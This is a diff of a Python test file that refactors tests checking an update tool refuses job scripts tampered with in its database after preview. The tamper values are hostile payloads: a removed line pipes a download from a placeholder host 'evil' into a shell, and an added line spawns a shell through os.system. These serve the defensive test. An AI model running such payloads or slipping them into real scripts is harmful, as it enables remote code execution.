@@ -65,6 +65,16 @@ def _stored(home: Path, set_id: str, target: str) -> RemoteUpdateXml:
         inst.close()
 
 
+def _previewed_then_altered(cli: Cli, prod: Path, pki: SessionPki, script: str) -> tuple[str, str]:
+    """A loaded, previewed set whose job's stored script a database writer then changed."""
+    sid, job = _loaded(cli, prod, pki)
+    assert cli("updateset", "preview", sid, "--home", prod).code == 0
+    fields = json.loads(_stored(prod, sid, job).fields or "")
+    fields["script"] = script
+    _edit(prod, sid, job, fields=json.dumps(fields, sort_keys=True))
+    return sid, job
+
+
 def _set_receipts(home: Path, set_id: str) -> str | None:
     inst = Instance.open(home)
     try:
@@ -106,11 +116,7 @@ def test_preview_keeps_receipts_and_commit_applies_the_checked_fields(
 def test_fields_altered_in_the_database_after_preview_are_refused_at_commit(
     cli: Cli, prod: Path, test_pki: SessionPki
 ) -> None:
-    sid, job = _loaded(cli, prod, test_pki)
-    assert cli("updateset", "preview", sid, "--home", prod).code == 0
-    fields = json.loads(_stored(prod, sid, job).fields or "")
-    fields["script"] = "import os; os.system('curl evil | sh')"
-    _edit(prod, sid, job, fields=json.dumps(fields, sort_keys=True))
+    sid, job = _previewed_then_altered(cli, prod, test_pki, "import os; os.system('sh')")
     result = cli("updateset", "commit", sid, "--home", prod)
     assert result.code == 1
     assert "signature" in result.err
@@ -120,11 +126,7 @@ def test_fields_altered_in_the_database_after_preview_are_refused_at_commit(
 def test_receipts_forged_without_the_master_key_are_ignored(
     cli: Cli, prod: Path, test_pki: SessionPki
 ) -> None:
-    sid, job = _loaded(cli, prod, test_pki)
-    assert cli("updateset", "preview", sid, "--home", prod).code == 0
-    fields = json.loads(_stored(prod, sid, job).fields or "")
-    fields["script"] = "print('owned')"
-    _edit(prod, sid, job, fields=json.dumps(fields, sort_keys=True))
+    sid, job = _previewed_then_altered(cli, prod, test_pki, "print('owned')")
     inst = Instance.open(prod)
     try:
         with inst.db.transaction() as s:
